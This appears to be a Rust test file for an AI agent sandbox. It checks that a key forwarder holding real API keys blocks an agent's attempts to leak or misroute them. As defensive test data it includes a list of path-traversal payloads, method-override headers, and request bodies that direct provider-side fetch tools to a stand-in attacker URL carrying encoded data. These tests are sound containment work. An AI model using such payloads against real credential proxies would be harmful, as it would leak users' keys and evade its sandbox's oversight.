@@ -1,0 +1,215 @@
+//! Attacks on the key forwarder: what the agent asks of the loopback forwarder, which holds the
+//! real key, to make it carry the key somewhere the user did not point it. NET_ADMIN, private
+//! networks; the evidence is what the API's peer received.
+
+use sandbox_tests::docker::TestNet;
+use sandbox_tests::peers::Peer;
+use sandbox_tests::sandbox::{Sandbox, SandboxSpec, ca_secret_file, secret_file};
+
+const KEY: &str = "sk-REAL-openai-key-of-the-attacks-5b9e";
+const FORWARDER: &str = "15102";
+
+/// A plain HTTP/1.1 request to the forwarder, as the agent; the status line of the answer.
+async fn ask(sb: &Sandbox, request: &str) -> anyhow::Result<String> {
+    let probe = sb
+        .probe(&["tcp", "127.0.0.1", FORWARDER, "--raw", "--send", request, "--timeout-ms", "10000"])
+        .await?;
+    Ok(probe.fields.get("greeting").and_then(|g| g.split("\\n").next()).unwrap_or_default().to_string())
+}
+
+/// With a base URL whose path names one tenant of a gateway (DashScope's
+/// `/compatible-mode/v1`), the agent asks the forwarder for a path that a server resolves to
+/// another: dot segments escaped once or twice, escaped slashes and backslashes, `;`
+/// parameters, `..` before a query. Before the fix the prefix test compared bytes, and these
+/// went upstream with the real key. Each is refused now, and the API's peer sees none of them.
+/// It also sends a POST that asks the server to act as a DELETE: the override header never
+/// reaches the API. The control: a request under the base path reaches it, with the key.
+#[tokio::test]
+async fn the_forwarder_sends_the_key_under_the_base_path_alone() -> anyhow::Result<()> {
+    let net = TestNet::create("attack-fwd-path").await?;
+    let api = Peer::start(&net, &["api.openai.com"]).await?;
+    let dir = tempfile::tempdir()?;
+    let key_file = secret_file(dir.path(), "openai_api_key", KEY)?;
+    let ca_file = ca_secret_file(dir.path())?;
+    let sb = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .drop_in("api.yaml", "version: 1\ndomains: [api.openai.com]\n")
+        .mount(&key_file, "/run/secrets/openai_api_key")
+        .mount(&ca_file, "/run/secrets/sandbox_api_ca.pem")
+        .env("OPENAI_BASE_URL", "https://api.openai.com/compatible-mode/v1")
+        .start()
+        .await?;
+    for path in [
+        "/compatible-mode/v1/%2e%2e/%2e%2e/other-tenant/v1/models",
+        "/compatible-mode/v1/%2E%2E/%2E%2E/other-tenant/v1/models",
+        "/compatible-mode/v1/..%2f..%2fother-tenant/v1/models",
+        "/compatible-mode/v1/..%5c..%5cother-tenant/v1/models",
+        "/compatible-mode/v1/..;/..;/other-tenant/v1/models",
+        "/compatible-mode/v1/%252e%252e/%252e%252e/other-tenant/v1/models",
+        "/compatible-mode/v1/../../other-tenant/v1/models",
+        "/compatible-mode/v1/..?x=1",
+        "/compatible-mode/v1//..//..//other-tenant",
+    ] {
+        let status = ask(&sb, &format!("GET {path} HTTP/1.1\\r\\n\\r\\n")).await?;
+        assert!(status.starts_with("HTTP/1.1 400") || status.starts_with("HTTP/1.1 403"), "{path}: {status}");
+    }
+    let overridden = ask(
+        &sb,
+        "POST /compatible-mode/v1/files HTTP/1.1\\r\\nX-HTTP-Method-Override: DELETE\\r\\nX-HTTP-Method: DELETE\\r\\nX-Method-Override: DELETE\\r\\nContent-Length: 0\\r\\n\\r\\n",
+    )
+    .await?;
+    assert!(overridden.starts_with("HTTP/1.1 200"), "{overridden}");
+    let control = ask(&sb, "GET /compatible-mode/v1/models HTTP/1.1\\r\\n\\r\\n").await?;
+    assert!(control.starts_with("HTTP/1.1 200"), "{control}");
+    let log = api.log().await?;
+    let requests: Vec<&String> = log.iter().filter(|l| l.starts_with("http 443 ")).collect();
+    assert_eq!(requests.len(), 2, "only the two allowed requests reached the API: {requests:?}");
+    assert!(
+        requests.iter().all(|l| l.contains(" path=/compatible-mode/v1/") && l.contains(KEY)),
+        "{requests:?}"
+    );
+    assert!(!requests.iter().any(|l| l.contains("override=")), "an override header went on: {requests:?}");
+    Ok(())
+}
+
+/// The three model APIs, as the mock API serves them, with a held key each.
+const APIS: [(&str, &str, &str); 3] = [
+    ("anthropic", "api.anthropic.com", "15101"),
+    ("openai", "api.openai.com", "15102"),
+    ("gemini", "generativelanguage.googleapis.com", "15103"),
+];
+
+/// A sandbox holding a key for each of the three APIs, answered by the mock API, with
+/// `drop_in` as a policy of its own too; and the mock.
+async fn three_apis(
+    test: &str,
+    drop_in: &str,
+) -> anyhow::Result<(TestNet, Peer, Sandbox, tempfile::TempDir)> {
+    let net = TestNet::create(test).await?;
+    let hosts: Vec<&str> = APIS.iter().map(|(_, host, _)| *host).collect();
+    let mock = Peer::start_mock_api(&net, &hosts).await?;
+    let dir = tempfile::tempdir()?;
+    let names: String = hosts.iter().map(|h| format!("  - {h}\n")).collect();
+    let mut spec = SandboxSpec::smallest()
+        .await?
+        .net_admin()
+        .on(&net)
+        .drop_in("apis.yaml", &format!("version: 1\ndomains:\n{names}"))
+        .drop_in("settings.yaml", drop_in)
+        .mount(&ca_secret_file(dir.path())?, "/run/secrets/sandbox_api_ca.pem");
+    for (api, _, _) in APIS {
+        let file = secret_file(dir.path(), &format!("{api}_key"), &format!("{KEY}-{api}"))?;
+        spec = spec.mount(&file, &format!("/run/secrets/{api}_api_key"));
+    }
+    Ok((net, mock, spec.start().await?, dir))
+}
+
+/// A POST of `body` (JSON) to `path` through the forwarder at `port`, as the agent: the status
+/// line and the answer's last line.
+async fn post(sb: &Sandbox, port: &str, path: &str, body: &str) -> anyhow::Result<(String, String)> {
+    let request = format!(
+        "POST {path} HTTP/1.1\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n{body}",
+        body.len()
+    );
+    let probe =
+        sb.probe(&["tcp", "127.0.0.1", port, "--raw", "--send", &request, "--timeout-ms", "10000"]).await?;
+    let answer = probe.fields.get("greeting").cloned().unwrap_or_default();
+    let status = answer.split("\\n").next().unwrap_or_default().to_string();
+    Ok((status, answer.rsplit("\\n").next().unwrap_or_default().to_string()))
+}
+
+/// Where each API's request goes, and a body naming its tool that fetches a URL (with what the
+/// agent wants carried in the URL), and the same request without it.
+fn fetching_request(api: &str) -> (&'static str, String, String) {
+    let url = "https://collect.attacker.example/?d=c2VjcmV0";
+    match api {
+        "anthropic" => (
+            "/v1/messages",
+            format!(
+                r#"{{"model":"m","max_tokens":1,"mcp_servers":[{{"type":"url","url":"{url}","name":"x"}}],"messages":[{{"role":"user","content":"hi"}}]}}"#
+            ),
+            r#"{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}"#.into(),
+        ),
+        "openai" => (
+            "/v1/responses",
+            format!(
+                r#"{{"model":"m","tools":[{{"type":"mcp","server_label":"x","server_url":"{url}"}}],"input":"hi"}}"#
+            ),
+            r#"{"model":"m","input":"hi"}"#.into(),
+        ),
+        _ => (
+            "/v1beta/models/m:streamGenerateContent",
+            format!(
+                r#"{{"contents":[{{"parts":[{{"text":"read {url}"}}]}}],"tools":[{{"url_context":{{}}}}]}}"#
+            ),
+            r#"{"contents":[{"parts":[{"text":"hi"}]}]}"#.into(),
+        ),
+    }
+}
+
+/// With the user's key, the provider's own servers would fetch a URL the request names (a
+/// remote MCP server, Anthropic's web fetch, Gemini's URL context), carrying what the agent put
+/// in it past every allowlist. The forwarder reads each body and refuses such a request with
+/// 403 naming the policy key, for each API; the mock never sees one. The control: the same
+/// request without the tool reaches the mock with the real key, and a policy that says
+/// `remote_tools: allow` for Gemini lets its URL context through (the others stay refused).
+#[tokio::test]
+async fn the_apis_own_fetch_tools_are_refused_by_the_forwarder() -> anyhow::Result<()> {
+    let (_net, mock, sb, _dir) =
+        three_apis("attack-fwd-tools", "version: 1\napis:\n  gemini:\n    remote_tools: allow\n").await?;
+    for (api, host, port) in APIS {
+        let (path, fetching, plain) = fetching_request(api);
+        let (status, why) = post(&sb, port, path, &fetching).await?;
+        if api == "gemini" {
+            assert!(status.starts_with("HTTP/1.1 200"), "{api}, allowed by the policy: {status} {why}");
+        } else {
+            assert!(status.starts_with("HTTP/1.1 403"), "{api}: {status} {why}");
+            assert!(why.contains("remote_tools: allow"), "{api}: {why}");
+        }
+        let (status, _) = post(&sb, port, path, &plain).await?;
+        assert!(status.starts_with("HTTP/1.1 200"), "{api}: {status}");
+        let log = mock.log().await?;
+        let reached: Vec<&String> = log.iter().filter(|l| l.contains(&format!("host={host} "))).collect();
+        let expected = if api == "gemini" { 2 } else { 1 };
+        assert_eq!(reached.len(), expected, "{api}: {reached:?}");
+        assert!(reached.iter().all(|l| l.contains(&format!("{KEY}-{api}"))), "{reached:?}");
+    }
+    Ok(())
+}
+
+/// With its key held, the agent brings a key of its own to the API's host, over TLS with the
+/// right SNI (and by the host's address): only the key forwarder may connect there, so the
+/// agent's connection is reset, and the connection log names the forwarder as the way. The
+/// control: the forwarder's own request (with the held key) reaches the mock, logged as the
+/// forwarder's.
+#[tokio::test]
+async fn the_agent_cannot_bring_its_own_key_to_a_held_apis_host() -> anyhow::Result<()> {
+    let (_net, mock, sb, _dir) = three_apis("attack-fwd-own-key", "version: 1\nallow: none\n").await?;
+    for (_, host, _) in APIS {
+        let own = sb.probe(&["tcp", host, "443", "--tls"]).await?;
+        assert_eq!(own.outcome(), "reset", "{host}: {:?}", own.fields);
+        let address = own.fields["address"].clone();
+        let by_address = sb.probe(&["tcp", &address, "443", "--tls", "--sni", host]).await?;
+        assert_eq!(by_address.outcome(), "reset", "{host} at {address}: {:?}", by_address.fields);
+        let plain = sb.probe(&["tcp", host, "80", "--http"]).await?;
+        assert_eq!(plain.outcome(), "reset", "{host}:80: {:?}", plain.fields);
+    }
+    let (path, _, plain) = fetching_request("anthropic");
+    let (status, _) = post(&sb, "15101", path, &plain).await?;
+    assert!(status.starts_with("HTTP/1.1 200"), "{status}");
+    let log = mock.log().await?;
+    assert_eq!(
+        log.iter().filter(|l| l.starts_with("http ")).count(),
+        1,
+        "only the forwarder's request: {log:?}"
+    );
+    let connections = sb.exec(&["cat", "/run/agent-sandbox/connections.jsonl"]).await?.stdout;
+    assert!(connections.contains("reached through the key forwarder alone"), "{connections}");
+    assert!(
+        connections.lines().any(|l| l.contains("key forwarder)") && l.contains("\"allowed\"")),
+        "{connections}"
+    );
+    Ok(())
+}
